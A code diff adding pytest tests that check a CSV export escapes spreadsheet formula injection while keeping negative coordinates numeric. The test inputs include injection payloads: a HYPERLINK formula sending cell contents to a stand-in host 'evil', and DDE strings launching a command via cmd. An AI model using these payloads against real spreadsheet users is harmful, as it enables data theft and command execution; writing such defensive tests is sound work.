@@ -125,6 +125,44 @@ def test_csv_quotes_commas_quotes_and_newlines(make_result, places):
     assert list(rows[0].keys()) == list(export.MENTION_FIELDS)
 
 
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil/q="&A1,"Kuala Lumpur")',
+        "+cmd|' /C calc'!A0 Kuala Lumpur",
+        "-2+3+cmd|' /C calc'!A0 Kuala Lumpur",
+        "@SUM(1+1)*cmd|' /C calc'!A0 Kuala Lumpur",
+        "\t=1+1 Kuala Lumpur",
+        "\r=1+1 Kuala Lumpur",
+    ],
+)
+def test_csv_neutralises_text_a_spreadsheet_would_run(make_result, places, hostile):
+    title = hostile.split(" Kuala")[0]
+    text = hostile + " is in Malaysia, at -3 degrees of nothing."
+    result = make_result([(title, text, [("Kuala Lumpur", places["kl"]), ("Malaysia", places["malaysia"])])])
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(result), newline="")))
+    assert rows
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            if cell.startswith("-"):
+                float(cell)  # only numbers (a negative longitude) may start with a minus
+        assert row["document_title"] == "'" + title  # the text is kept, shown as text
+        passage = text[int(row["passage_start"]) : int(row["passage_end"])]
+        expected = "'" + passage if passage.startswith(("=", "+", "-", "@", "\t", "\r")) else passage
+        assert row["passage"] == expected
+    # Cells that were safe are untouched.
+    assert {r["text"] for r in rows} == {"Kuala Lumpur", "Malaysia"}
+
+
+def test_csv_keeps_negative_coordinates_numeric(make_result, places):
+    from mapviewer.model import Place
+
+    lima = Place("city:3936456", "Lima", "city", -12.04318, -77.02824, "PE", 7737002)
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(make_result([("t", "Lima.", [("Lima", lima)])])))))
+    assert float(rows[0]["lat"]) == -12.04318 and float(rows[0]["lon"]) == -77.02824
+
+
 def test_csv_has_one_row_per_mention_and_empty_cells_for_none(result):
     rows = list(csv.DictReader(io.StringIO(export.to_csv(result), newline="")))
     assert len(rows) == len(result.resolutions)
